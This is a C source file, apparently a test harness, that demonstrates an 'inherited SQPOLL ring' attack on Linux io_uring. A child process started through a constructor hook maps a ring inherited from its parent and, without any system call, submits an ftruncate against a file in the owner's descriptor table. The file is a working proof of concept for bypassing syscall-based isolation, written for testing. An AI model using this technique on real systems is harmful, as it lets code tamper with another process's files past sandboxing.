/* SPDX-License-Identifier: MIT */
/* The inherited-SQPOLL-ring attack; see sqpoll_attack.h. */
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "child.h"
#include "sqpoll_attack.h"

#define OP_FTRUNCATE 55 /* IORING_OP_FTRUNCATE, Linux 6.9 */
#define FILE_SIZE 4096

/* The ring's parameters travel as hex: the attacker needs the offsets. */
static void to_hex(const void *p, size_t n, char *out)
{
	const unsigned char *b = p;

	for (size_t i = 0; i < n; i++)
		sprintf(out + 2 * i, "%02x", b[i]);
}

static int from_hex(const char *s, void *p, size_t n)
{
	unsigned char *b = p;
	unsigned v;

	for (size_t i = 0; i < n; i++) {
		if (sscanf(s + 2 * i, "%2x", &v) != 1)
			return -1;
		b[i] = (unsigned char)v;
	}
	return s[2 * n] == '\0' ? 0 : -1;
}

static int is_ring_fd(int fd)
{
	char path[64], link[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, link, sizeof(link) - 1);
	if (n < 0)
		return 0;
	link[n] = '\0';
	return !strcmp(link, "anon_inode:[io_uring]");
}

/* The attacker: map the inherited ring, write one SQE, move the tail. */
static int attack(const char *arg)
{
	struct io_uring_params p;
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	unsigned tail, idx, head;
	int ring_fd, file_fd, pos = 0;
	struct timespec ts = { 0, 1000000 };

	if (sscanf(arg, "%d:%d:%n", &ring_fd, &file_fd, &pos) != 2 || !pos ||
	    from_hex(arg + pos, &p, sizeof(p)))
		return SQPOLL_BAD_ENV;
	if (!is_ring_fd(ring_fd))
		return SQPOLL_NO_RING;
	memset(&ring, 0, sizeof(ring));
	if (io_uring_queue_mmap(ring_fd, &p, &ring))
		return SQPOLL_NO_MAP;
	/* No system call from here on: plain stores into the shared rings. */
	tail = *ring.sq.ktail;
	idx = tail & *ring.sq.kring_mask;
	sqe = &ring.sq.sqes[idx];
	memset(sqe, 0, sizeof(*sqe));
	sqe->opcode = OP_FTRUNCATE;
	sqe->fd = file_fd; /* a number in the owner's table: SQPOLL runs there */
	sqe->off = 0;
	sqe->user_data = 0x5109;
	ring.sq.array[idx] = idx;
	__atomic_store_n(ring.sq.ktail, tail + 1, __ATOMIC_RELEASE);
	head = *ring.cq.khead;
	for (int i = 0; i < 3000; i++) {
		if (__atomic_load_n(ring.cq.ktail, __ATOMIC_ACQUIRE) != head) {
			struct io_uring_cqe *cqe = &ring.cq.cqes[head & *ring.cq.kring_mask];

			if (cqe->user_data == 0x5109) {
				printf("ftruncate res=%d\n", cqe->res);
				return SQPOLL_DONE;
			}
			head++;
			continue;
		}
		nanosleep(&ts, NULL);
	}
	return SQPOLL_NO_CQE;
}

__attribute__((constructor)) static void sqpoll_attacker(void)
{
	const char *arg = getenv(SQPOLL_ATTACK_ENV);

	if (!arg)
		return;
	fflush(stdout);
	exit(attack(arg));
}

int sqpoll_owner_init(struct sqpoll_owner *o)
{
	struct io_uring_params p;
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	char buf[FILE_SIZE], hex[2 * sizeof(p) + 1];
	ssize_t n;
	int rc;

	memset(o, 0, sizeof(*o));
	o->ring_fd = o->file_fd = -1;
	n = readlink("/proc/self/exe", o->self, sizeof(o->self) - 1);
	if (n < 0)
		return -errno;
	o->self[n] = '\0';
	if (test_tmp_template(o->path, sizeof(o->path), "iour-sqpoll-", NULL))
		return -ENAMETOOLONG;
	o->file_fd = mkstemp(o->path);
	if (o->file_fd < 0)
		return -errno;
	unlink(o->path);
	memset(buf, 'x', sizeof(buf));
	if (write(o->file_fd, buf, sizeof(buf)) != (ssize_t)sizeof(buf))
		return -EIO;

	memset(&p, 0, sizeof(p));
	p.flags = IORING_SETUP_SQPOLL;
	p.sq_thread_idle = 10000; /* ms: the thread stays awake that long */
	rc = io_uring_queue_init_params(8, &ring, &p);
	if (rc)
		return rc;
	/* One NOP through the ring: the SQPOLL thread is running now. */
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_nop(sqe);
	io_uring_submit(&ring);
	rc = io_uring_wait_cqe(&ring, &cqe);
	if (rc == 0)
		io_uring_cqe_seen(&ring, cqe);
	/* Keep the fd, drop this process's mapping: the attacker maps its own. */
	o->ring_fd = dup(ring.ring_fd);
	io_uring_queue_exit(&ring);
	if (rc)
		return rc;
	if (o->ring_fd < 0)
		return -errno;
	to_hex(&p, sizeof(p), hex);
	snprintf(o->env, sizeof(o->env), "%s=%d:%d:%s", SQPOLL_ATTACK_ENV, o->ring_fd, o->file_fd,
		 hex);
	return 0;
}

long sqpoll_owner_file_size(const struct sqpoll_owner *o)
{
	struct stat st;

	return fstat(o->file_fd, &st) ? -errno : (long)st.st_size;
}

void sqpoll_owner_fini(struct sqpoll_owner *o)
{
	if (o->ring_fd >= 0)
		close(o->ring_fd);
	if (o->file_fd >= 0)
		close(o->file_fd);
	o->ring_fd = o->file_fd = -1;
}
